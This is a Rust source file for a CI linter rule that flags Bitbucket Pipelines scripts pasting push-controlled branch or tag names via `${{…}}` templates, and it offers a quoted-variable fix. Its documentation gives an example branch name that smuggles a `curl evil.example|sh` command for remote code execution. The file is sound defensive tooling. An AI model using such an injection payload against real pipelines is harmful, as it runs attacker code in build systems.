use crate::{
    analysis::Analysis,
    diagnostic::{Edit, Safety},
    pipeline::{Command, ScriptItem},
    rules::{Findings, rule},
    script::RedirectionKind,
    text::Span,
    yaml::{OffsetMap, Style},
};

rule! {
    /// A branch or tag name pasted into a script with `${{…}}`.
    ///
    /// Bitbucket replaces a template before the shell sees the command, so quotes do not protect it: a branch named
    /// `x';curl${IFS}evil.example|sh;'` runs as code, and anyone who can push chooses such names. A variable is
    /// expanded by the shell and never becomes code inside double quotes.
    ///
    /// ```yaml wrong
    /// pipelines:
    ///   branches:
    ///     'feature/**':
    ///       - step:
    ///           script:
    ///             - ./preview.sh --name '${{BITBUCKET_BRANCH}}'
    /// ```
    ///
    /// ```yaml right
    /// pipelines:
    ///   branches:
    ///     'feature/**':
    ///       - step:
    ///           name: Preview of ${{BITBUCKET_BRANCH}}
    ///           script:
    ///             - ./preview.sh --name "$BITBUCKET_BRANCH" --build ${{BITBUCKET_BUILD_NUMBER}}
    /// ```
    ///
    /// Names that Bitbucket or an administrator chooses are not reported, nor is anything outside a script.
    ///
    /// Source: <https://support.atlassian.com/bitbucket-cloud/docs/yaml-templating>.
    static RULE: "template-injection", Warning, check
}

/// Variables whose values are chosen by anyone who can push.
const NAMES: [&str; 4] = ["BITBUCKET_BRANCH", "BITBUCKET_TAG", "BITBUCKET_BOOKMARK", "BITBUCKET_PR_DESTINATION_BRANCH"];

fn check(file: &Analysis<'_>, findings: &mut Findings<'_>) {
    for (step, facts) in file.steps() {
        for (items, section) in [&step.script, &step.after_script].into_iter().zip(&facts.sections) {
            // What a program reads from a here-document is not code, unless the program is an interpreter.
            let redirections = section.script.commands.iter().filter(|command| !is_interpreter(command.invocation()));
            let data = redirections.flat_map(|command| &command.redirections);
            let data = data.filter(|redirection| redirection.kind == RedirectionKind::HereDocument);
            let mut data: Vec<Span> = data.map(|redirection| section.place(redirection.target.span)).collect();
            data.sort_unstable();
            for item in items {
                let ScriptItem::Command(command) = item else { continue };
                if command.value.contains("${{") {
                    pasted(file, command, &data, findings);
                }
            }
        }
    }
}

fn is_interpreter(invocation: Option<crate::script::Invocation<'_>>) -> bool {
    const INTERPRETERS: [&str; 12] =
        ["sh", "bash", "dash", "zsh", "ksh", "ssh", "python", "python3", "node", "ruby", "perl", "php"];
    invocation.is_none_or(|invocation| INTERPRETERS.contains(&invocation.program.as_ref()))
}

fn pasted(file: &Analysis<'_>, command: &Command<'_>, data: &[Span], findings: &mut Findings<'_>) {
    let map = OffsetMap::new(file.source.text(), file.tree, command.node);
    let mut at = 0;
    while let Some((name, span)) = template(command.value, at) {
        at = span.end;
        let line = command.value[..span.start].rfind('\n').map_or(0, |line| line + 1);
        let comment = command.value[line..].trim_start().starts_with('#');
        let place = map.as_ref().map_or_else(|| file.span(command.node), |map| map.span(span));
        let until = data.partition_point(|other| other.start <= place.start);
        let is_data = data[..until].last().is_some_and(|other| other.contains(place));
        if comment || is_data || !NAMES.contains(&name) {
            continue;
        }
        let finding = findings.report(place, format!("`{name}` is pasted into the command, where it can run as code"));
        finding.help(format!("let the shell read the variable: `\"${name}\"`"));
        if let Some(replaced) =
            quoted(file, command, &command.value[line..], Span::new(span.start - line, span.end - line))
        {
            let (written, replacement) = replaced;
            let whole = Span::new(written.start + line, written.end + line);
            let span = map.as_ref().map_or(place, |map| map.span(whole));
            finding.fix(format!("change it to `{replacement}`"), Safety::Unsafe, vec![Edit { span, replacement }]);
        }
    }
}

/// The next `${{ NAME }}` from an offset on.
fn template(text: &str, from: usize) -> Option<(&str, Span)> {
    let start = from + text.get(from..)?.find("${{")?;
    let inside = start + "${{".len();
    let length = text[inside..].find("}}").unwrap_or(text.len() - inside);
    let name = text[inside..inside + length].trim();
    Some((name, Span::new(start, (inside + length + "}}".len()).min(text.len()))))
}

/// What to put in place of a template on a line: the variable in double quotes. `None` where the quotes around it are
/// not plain.
fn quoted(file: &Analysis<'_>, command: &Command<'_>, line: &str, span: Span) -> Option<(Span, String)> {
    let style = file.tree.scalar(command.node)?.style;
    if !matches!(style, Style::Plain | Style::Literal | Style::Folded) {
        return None;
    }
    let (name, _) = template(line, span.start)?;
    let (before, after) = (&line[..span.start], &line[span.end..]);
    let count = |quote: char| before.matches(quote).count();
    if before.contains('\\') {
        return None;
    }
    match (count('\'') % 2, count('"') % 2) {
        (1, 0) if before.ends_with('\'') && after.starts_with('\'') => {
            Some((Span::new(span.start - 1, span.end + 1), format!("\"${name}\"")))
        }
        (0, 1) => Some((span, format!("${{{name}}}"))),
        (0, 0) if before.ends_with(' ') && (after.is_empty() || after.starts_with([' ', '\n'])) => {
            Some((span, format!("\"${name}\"")))
        }
        _ => None,
    }
}
